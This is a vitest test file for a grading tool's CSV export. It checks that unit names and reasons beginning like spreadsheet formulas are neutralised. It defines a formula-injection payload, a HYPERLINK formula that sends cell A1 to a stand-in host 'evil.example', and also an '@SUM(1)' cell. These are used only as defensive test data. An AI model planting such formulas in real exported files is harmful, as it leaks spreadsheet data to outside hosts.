/** `grade --csv`: the graded table as CSV, with cells that would run as formulas neutralised. */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { seedDemoIfEmpty } from '../../db/seed/demo';
import type { GradingResult, UnitResult } from '../../src/domain/grading-types';
import type { SchemeFile } from '../../src/domain/scheme';
import { parseCsv } from '../import/units-file';
import { openDatabase } from '../../src/runtime/open-db';
import { main } from '../cli';
import { gradeCsv } from './grade-csv';

const dir = mkdtempSync(join(tmpdir(), 'lvzhi-grade-csv-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"点此查看")';

function unit(over: Partial<UnitResult>): UnitResult {
  return {
    unitId: 1, name: '县图书馆', group: '公益一类', status: 'graded', score: 85.5, indicatorScores: {}, raterGroupScores: {},
    rank: 1, rankOf: 2, baseGrade: 'A', grade: 'A', gradeLabel: '优秀', flags: [], reasons: ['综合得分 85.50'], missing: [], ...over,
  };
}

describe('gradeCsv', () => {
  it('writes one row per unit and neutralises names and reasons that start like a formula', () => {
    const scheme = { name: '方案', grading: { decimals: 2 } } as unknown as SchemeFile;
    const result = {
      year: 2026,
      counts: {},
      units: [
        unit({ name: EVIL, reasons: ['@SUM(1)', '-扣分'] }),
        unit({ unitId: 2, name: '县档案馆', status: 'incomplete', score: null, rank: null, gradeLabel: null, reasons: ['缺少 评估组 评分'] }),
      ],
    } as unknown as GradingResult;
    const csv = gradeCsv(scheme, result);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(parseCsv(csv)).toEqual([
      ['组别', '排名', '单位', '得分', '等次', '说明'],
      ['公益一类', '1', `'${EVIL}`, '85.50', '优秀', `'@SUM(1)；-扣分`],
      ['公益一类', '', '县档案馆', '', '待补充', '缺少 评估组 评分'],
    ]);
  });
});

describe('npm run cli -- grade <id> --csv <file>', () => {
  it('exports a unit name imported as a formula as text', async () => {
    const url = `file:${join(dir, 'app.db')}`;
    const { db, close } = await openDatabase({ DATABASE_URL: url });
    try {
      expect(await seedDemoIfEmpty(db, Date.UTC(2026, 10, 30))).toBe(1);
    } finally {
      close();
    }
    const run = async (...argv: string[]) => {
      const out: string[] = [];
      const err: string[] = [];
      const code = await main(argv, { DATABASE_URL: url }, { out: (l) => out.push(l), err: (l) => err.push(l) });
      return { code, out, err };
    };
    // Imports store the text as given (the formula is a legal 单位名称)…
    const units = join(dir, 'units.csv');
    const quoted = `"${EVIL.replaceAll('"', '""')}"`;
    writeFileSync(units, `单位编码,单位名称,组别,主管部门,姓名,手机号,邮箱,角色\nHA-CDC,${quoted},公益一类,县卫生健康委员会,王晓燕,13800000001,,填报员\n`);
    expect((await run('import', 'units', units)).code).toBe(0);

    // …and the export neutralises it.
    const file = join(dir, '评定结果.csv');
    const r = await run('grade', '1', '--csv', file);
    expect(r).toMatchObject({ code: 0, err: [] });
    expect(r.out).toEqual([expect.stringMatching(/^已导出 \d+ 个单位的评定结果到 /)]);
    const rows = parseCsv(readFileSync(file, 'utf8'));
    expect(rows[0]).toEqual(['组别', '排名', '单位', '得分', '等次', '说明']);
    expect(rows.find((row) => row[2]?.includes('HYPERLINK'))?.[2]).toBe(`'${EVIL}`);
    expect(rows.every((row) => row.every((cell) => !/^[=+\-@]/.test(cell)))).toBe(true);

    expect((await run('grade', '1', '--csv', file, '--json')).code).toBe(2);
    expect(await run('grade', '1', '--csv', join(dir, 'no-such-dir', 'x.csv'))).toMatchObject({ code: 1, err: [expect.stringMatching(/^无法写入文件「.*」：请确认所在文件夹存在且可写（ENOENT）$/)] });
  });
});
